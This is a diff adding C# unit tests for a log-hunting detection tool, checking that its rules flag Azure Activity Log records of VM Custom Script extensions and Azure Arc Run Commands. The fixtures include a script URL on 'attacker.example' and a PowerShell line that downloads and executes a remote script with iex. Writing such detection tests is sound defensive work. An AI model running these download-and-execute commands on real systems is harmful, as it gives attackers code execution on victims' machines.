@@ -1,0 +1,109 @@
+using System.Text;
+using Firebreak.Detection.Hunting;
+using Firebreak.Detection.Readers;
+using Firebreak.Detection.Rules;
+using Firebreak.Detection.Sigma;
+
+namespace Firebreak.Detection.Tests.Rules;
+
+/// <summary>
+/// More of what attackers do, in the records the providers write: code run on machines through extensions and Azure Arc,
+/// roles granted through PIM and to applications, and logging and network controls narrowed rather than switched off.
+/// Each record is read whole through the reader, with the pack's raw pre-filter, as <c>firebreak hunt</c> reads a log.
+/// </summary>
+public class BuiltInPackExtendedCoverageTests
+{
+    private static readonly Lazy<CompiledRuleSet> Pack = new(() => BuiltInRules.Compile());
+
+    private static CancellationToken Token => TestContext.Current.CancellationToken;
+
+    private static async Task<List<HuntHit>> Hunt(string json, string name)
+    {
+        var reader = new CloudLogReader(new ReaderOptions { RawFilter = RuleRawFilter.Create(Pack.Value) });
+        var hunt = new Hunt(Pack.Value, new HuntOptions { Workers = 1 });
+        var hits = await hunt.RunAsync(reader.ReadStreamAsync(new MemoryStream(Encoding.UTF8.GetBytes(json)), name, Token), Token).ToListAsync(Token);
+        Assert.Empty(reader.Summary.Problems);
+        return hits;
+    }
+
+    private static string Describe(IEnumerable<HuntHit> hits) =>
+        "[" + string.Join(", ", hits.Select(h => $"{h.Title} ({h.Level}: {string.Join(" ", h.Tags)})")) + "]";
+
+    // ------------------------------------------------------------------------------------------------------------------
+    // Azure Activity Log, as diagnostic settings export it to a storage account or an event hub. Each write is logged
+    // as Start, then (for asynchronous operations) Accept, then Success or Failure, under one correlation id.
+    // ------------------------------------------------------------------------------------------------------------------
+
+    private const string Subscription = "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9";
+    private const string Tenant = "5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9";
+
+    private static string Activity(string resourceId, string operation, string resultType, string resultSignature, string time, string properties,
+        string correlationId = "c0ffee00-1111-4222-8333-444455556666", string role = "Owner") => $$$$"""
+        {"time":"{{{{time}}}}","resourceId":"{{{{resourceId.ToUpperInvariant()}}}}","operationName":"{{{{operation.ToUpperInvariant()}}}}","category":"Administrative",
+         "resultType":"{{{{resultType}}}}","resultSignature":"{{{{resultSignature}}}}","durationMs":"0","callerIpAddress":"203.0.113.7","correlationId":"{{{{correlationId}}}}",
+         "identity":{"authorization":{"scope":"{{{{resourceId}}}}","action":"{{{{operation}}}}",
+           "evidence":{"role":"{{{{role}}}}","roleAssignmentScope":"/subscriptions/{{{{Subscription}}}}","roleAssignmentId":"7f3a2b1c0d9e4f8a","roleDefinitionId":"8e3af657a8ff443ca75c2fe8c4bcb635","principalId":"aead923d498b4f64a66c2af91447a8b6","principalType":"User"}},
+          "claims":{"aud":"https://management.core.windows.net/","iss":"https://sts.windows.net/{{{{Tenant}}}}/","http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn":"mallory@contoso.example",
+           "name":"Mallory Quinn","http://schemas.microsoft.com/identity/claims/objectidentifier":"aead923d-498b-4f64-a66c-2af91447a8b6","ipaddr":"203.0.113.7","scp":"user_impersonation","appid":"04b07795-8ddb-461a-bbee-02f9e1bf7b46"}},
+         "level":"Information","location":"global",
+         "properties":{{{{properties}}}}}
+        """;
+
+    private static string ActivityProperties(string entity, string operation, string? statusCode = null, string? body = null, string bodyName = "responseBody") =>
+        "{" + (statusCode is null ? "" : $"\"statusCode\":\"{statusCode}\",\"serviceRequestId\":null,")
+            + (body is null ? "" : $"\"{bodyName}\":{System.Text.Json.JsonSerializer.Serialize(body)},")
+            + $"\"eventCategory\":\"Administrative\",\"entity\":\"{entity}\",\"message\":\"{operation}\",\"hierarchy\":\"{Tenant}/{Subscription}\"}}";
+
+    /// <summary>One operation as the export writes it: Start (with the request body), Accept, then Success.</summary>
+    private static string Operation(string resourceId, string operation, string requestBody, string responseBody, bool accepted = true)
+    {
+        var records = new List<string>
+        {
+            Activity(resourceId, operation, "Start", "Started.", "2026-01-15T10:00:00.1000000Z", ActivityProperties(resourceId, operation, body: requestBody, bodyName: "requestbody")),
+        };
+        if (accepted)
+            records.Add(Activity(resourceId, operation, "Accept", "Accepted.Created", "2026-01-15T10:00:01.2000000Z", ActivityProperties(resourceId, operation, "Created", responseBody)));
+        records.Add(Activity(resourceId, operation, "Success", accepted ? "Succeeded." : "Succeeded.Created", "2026-01-15T10:00:31.3000000Z",
+            ActivityProperties(resourceId, operation, accepted ? "OK" : "Created", responseBody)));
+        return "{\"records\":[" + string.Join(",", records) + "]}";
+    }
+
+    [Fact]
+    public async Task ACustomScriptExtensionWrittenToAVm_IsCaughtOnceAsExecution()
+    {
+        // az vm extension set --name CustomScript --publisher Microsoft.Azure.Extensions --settings '{"fileUris":[...]}'
+        // --protected-settings '{"commandToExecute":"..."}': the guest agent runs the script as root, as Run Command would.
+        var vm = $"/subscriptions/{Subscription}/resourceGroups/prod-rg/providers/Microsoft.Compute/virtualMachines/db01/extensions/CustomScript";
+        var json = Operation(vm, "Microsoft.Compute/virtualMachines/extensions/write",
+            """{"location":"westeurope","properties":{"publisher":"Microsoft.Azure.Extensions","type":"CustomScript","typeHandlerVersion":"2.1","autoUpgradeMinorVersion":true,"settings":{"fileUris":["https://attacker.example/x.sh"]},"protectedSettings":{}}}""",
+            """{"name":"CustomScript","id":"/subscriptions/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9/resourceGroups/prod-rg/providers/Microsoft.Compute/virtualMachines/db01/extensions/CustomScript","type":"Microsoft.Compute/virtualMachines/extensions","location":"westeurope","properties":{"autoUpgradeMinorVersion":true,"provisioningState":"Creating","publisher":"Microsoft.Azure.Extensions","type":"CustomScript","typeHandlerVersion":"2.1","settings":{"fileUris":["https://attacker.example/x.sh"]}}}""");
+        var hits = await Hunt(json, "PT1H.json");
+        var execution = hits.Where(h => h.Tags.Contains("attack.execution")).ToList();
+        Assert.True(execution.Count == 1, Describe(hits));
+        Assert.Contains("attack.t1651", execution[0].Tags);
+    }
+
+    [Fact]
+    public async Task AnExtensionGivenAnotherName_IsStillReportedAsWritten()
+    {
+        // The Custom Script extension under a name of the attacker's choosing, with no body in the final record: only the
+        // write itself is left to see.
+        var vm = $"/subscriptions/{Subscription}/resourceGroups/prod-rg/providers/Microsoft.Compute/virtualMachines/db01/extensions/MDE.Linux.Health";
+        var json = "{\"records\":[" + Activity(vm, "Microsoft.Compute/virtualMachines/extensions/write", "Success", "Succeeded.", "2026-01-15T10:00:31Z",
+            ActivityProperties(vm, "Microsoft.Compute/virtualMachines/extensions/write", "OK")) + "]}";
+        var hits = await Hunt(json, "PT1H.json");
+        Assert.True(hits.Count(h => h.Tags.Contains("attack.execution")) == 1, Describe(hits));
+    }
+
+    [Fact]
+    public async Task ARunCommandOnAnArcEnabledServer_IsCaughtAsRunCommand()
+    {
+        // Azure Arc's Run Command runs a script on a server outside Azure (on premises, or in another cloud).
+        var machine = $"/subscriptions/{Subscription}/resourceGroups/onprem-rg/providers/Microsoft.HybridCompute/machines/filesrv01/runCommands/collect";
+        var json = Operation(machine, "Microsoft.HybridCompute/machines/runCommands/write",
+            """{"location":"westeurope","properties":{"source":{"script":"Invoke-WebRequest https://attacker.example/a.ps1 | iex"},"asyncExecution":false}}""",
+            """{"name":"collect","type":"Microsoft.HybridCompute/machines/runCommands","properties":{"provisioningState":"Creating","asyncExecution":false}}""");
+        var hits = await Hunt(json, "PT1H.json");
+        Assert.True(hits.Count(h => h.Tags.Contains("attack.t1651")) == 1, Describe(hits));
+    }
+}
